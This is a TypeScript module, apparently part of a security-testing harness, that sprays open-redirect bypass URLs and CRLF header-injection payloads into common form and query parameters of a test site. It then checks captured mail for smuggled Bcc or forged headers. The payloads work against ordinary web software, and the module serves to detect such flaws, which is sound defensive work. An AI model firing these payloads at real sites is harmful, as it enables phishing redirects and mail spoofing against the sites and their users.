import { ELSEWHERE, INJECTED } from '#proof/attack/judge.ts';
import { fireAll, join, type Range, type Result } from '#proof/attack/range.ts';
import { STAFF } from '#proof/attack/site.ts';
import { everywhere } from './everywhere.ts';

const NAMES = [
  'next',
  'url',
  'redirect',
  'redirect_to',
  'redirect_uri',
  'return',
  'returnTo',
  'continue',
  'dest',
  'callback',
];

/** Ways to be sent elsewhere, in the spellings that get past a careless look. */
export function attackRedirects(range: Range): Promise<Result> {
  const places = [
    `https://${ELSEWHERE}`,
    `//${ELSEWHERE}`,
    `/\\${ELSEWHERE}`,
    `/\t/${ELSEWHERE}`,
    `https:${ELSEWHERE}`,
  ].concat(
    `http://${range.site.host}@${ELSEWHERE}`,
    `javascript:location='//${ELSEWHERE}'`,
    `/../${ELSEWHERE}`,
    `/%2f%2f${ELSEWHERE}`,
  );
  return fireAll(range, everywhere(range, places, NAMES));
}

const LINES = ['\r\n', '\n', '\r', '\u560d\u560a', '%0d%0a', '\r\n\t'];

/** Line breaks in values that become headers: of answers, and of letters. */
export async function attackHeaders(range: Range): Promise<Result> {
  const payloads = [
    ...LINES.map((line) => `a@example.com${line}Bcc: victim@${ELSEWHERE}${line}${INJECTED}: 1`),
    'Dana\r\n\r\n<h1>a body of my own</h1>',
  ];
  const written = range.site.smtp.mails.length;
  const fired = await fireAll(range, everywhere(range, payloads, NAMES));
  const letters = range.site.smtp.mails.slice(written);
  const findings = letters.flatMap(({ source, to }) => {
    const head = source.split('\r\n\r\n')[0] ?? '';
    const strange = to.filter(
      (address) => address !== STAFF && !/^[\w.-]+@(example\.com|firm\.example|whitfield\.example)$/.test(address),
    );
    const injected = new RegExp(`^(${INJECTED}|bcc):`, 'im').test(head);
    return strange.length || injected ? [`a letter to ${to} has headers that a form has brought`] : [];
  });
  return join(fired, { requests: 0, findings });
}
